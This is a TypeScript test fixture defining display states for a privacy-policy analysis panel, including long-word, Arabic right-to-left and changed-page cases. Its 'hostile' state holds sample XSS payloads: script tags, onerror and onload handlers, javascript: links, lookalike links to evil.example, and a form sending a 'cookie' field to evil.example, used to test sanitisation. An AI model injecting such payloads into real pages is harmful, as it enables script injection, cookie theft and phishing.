import samplePage from '../assets/sample/privacy-policy.html?raw';
import { analyse } from '../lib/analyse';
import { extract } from '../lib/extract/extract';
import { markupOf } from '../lib/extract/markup';
import type { PolicyMarkup } from '../lib/policy/markup';
import type { Situation } from '../lib/ui/notices';
import { rulebook } from '../rules/ruleset';
import { silentScorecard, situations } from './states';

/** Every state of the panel, by name: what is known of the page, and the text that it gives. Drawn in the preview, operated in tests. */
export interface PanelState {
  situation: Situation;
  markup: PolicyMarkup | null;
}

const URL = 'https://www.hollowbrook.example/privacy';

/** A page as the panel would get it: read, classified, and in its own markup. */
export function stateOf(html: string): PanelState {
  const page = new DOMParser().parseFromString(html, 'text/html');
  return {
    situation: { kind: 'outcome', outcome: analyse(extract(page, URL), rulebook, URL) },
    markup: markupOf(page, URL),
  };
}

const paragraphs = (words: string, times: number) => `<p>${words}</p>`.repeat(times);
const policy = (body: string) => `<html lang="en"><title>Privacy policy</title><body><h1>Privacy Policy</h1>${body}`;

const LONG = 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft';

const longWords = policy(`<h2>${LONG} and what we collect</h2>
<p>We collect your name, your email address and your precise location. ${LONG}${LONG} is our parent company.</p>
<table><tr><th>Category of personal information</th><th>Examples</th><th>Purpose</th><th>Disclosed to</th></tr>
<tr><td>Identifiers</td><td>${LONG}, name, email address</td><td>To provide the service</td><td>Service providers</td></tr>
<tr><td>Location</td><td>GPS position</td><td>To show you ads</td><td>Advertising partners</td></tr></table>
<ul><li>We sell your personal information.<ul><li>${LONG}</li><li>We share it with advertisers.<ol><li>We keep it.</li></ol></li></ul></li></ul>
<p>Opt out at <a href="https://${'very-long-subdomain.'.repeat(4)}example/out">our partners’ page</a> or <a href="mailto:privacy@hollowbrook.example">write to us</a>.</p>
${paragraphs('We use your information to provide, to improve and to protect our services, and to understand how people use them.', 20)}`);

const arabic = `<html lang="ar" dir="rtl"><title>سياسة الخصوصية</title><body><h1>سياسة الخصوصية</h1>
<p>تشرح هذه السياسة كيف نجمع بياناتك الشخصية وكيف نستخدمها. We collect your email address and your IP address.</p>
<h2>ما نجمعه</h2><ul><li>اسمك وعنوان بريدك الإلكتروني</li><li>We collect your precise location (GPS).</li></ul>
${paragraphs('We use your personal information to provide the service, and we share it with our advertising partners.', 12)}`;

const read = stateOf(samplePage);
const scorecard = situationScorecard(read.situation);

function situationScorecard(situation: Situation) {
  if (situation.kind !== 'outcome' || situation.outcome.kind !== 'scored')
    throw new Error('The sample has no scorecard.');
  return situation.outcome.scorecard;
}

/** What a page's process could send in place of a policy. */
const hostileHtml = `<h1 data-at="0" id="panel" class="panel-head">Privacy Policy</h1>
<script>document.title = 'owned'</script><style>body { display: none }</style>
<p data-at="15" onclick="alert(1)" style="position:fixed;inset:0">We collect your name.<img src="x" onerror="document.title='owned'"></p>
<form id="document" action="https://evil.example"><input name="cookie"><button>Send</button></form>
<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><math><mi xlink:href="data:x">x</mi></math>
<p><a href="javascript:alert(1)">Opt out</a> <a href="https://bank.example@evil.example/">https://bank.example/</a>
<a href="https://evil.example/">https://bank.example/</a> <iframe srcdoc="<p>x"></iframe><template><p>x</p></template></p>`;

export const panelStates = {
  sample: read,
  longWords: stateOf(longWords),
  rightToLeft: stateOf(arabic),
  /** The page says something else by now: half of its sentences are gone. */
  changed: {
    situation: read.situation,
    markup: markupOf(
      new DOMParser().parseFromString(
        samplePage.replace(/collect/g, 'gather').replace(/ sell/g, ' trade'),
        'text/html',
      ),
      URL,
    ),
  },
  noFindings: {
    situation: {
      kind: 'outcome',
      outcome: { kind: 'scored', scorecard: { ...silentScorecard, source: scorecard.source } },
    },
    markup: read.markup,
  },
  hostile: {
    situation: read.situation,
    markup: {
      kind: 'markup',
      text: 'Privacy Policy\nWe collect your name.',
      html: hostileHtml,
      language: 'en',
      extent: 'beginning',
    },
  },
  noText: { situation: read.situation, markup: null },
  notAPolicy: { situation: situations.notAPolicy, markup: null },
  reading: { situation: situations.reading, markup: null },
  unread: { situation: situations.unread, markup: null },
  notReadable: { situation: situations.notReadable, markup: null },
} satisfies Record<string, PanelState>;

export type PanelStateName = keyof typeof panelStates;
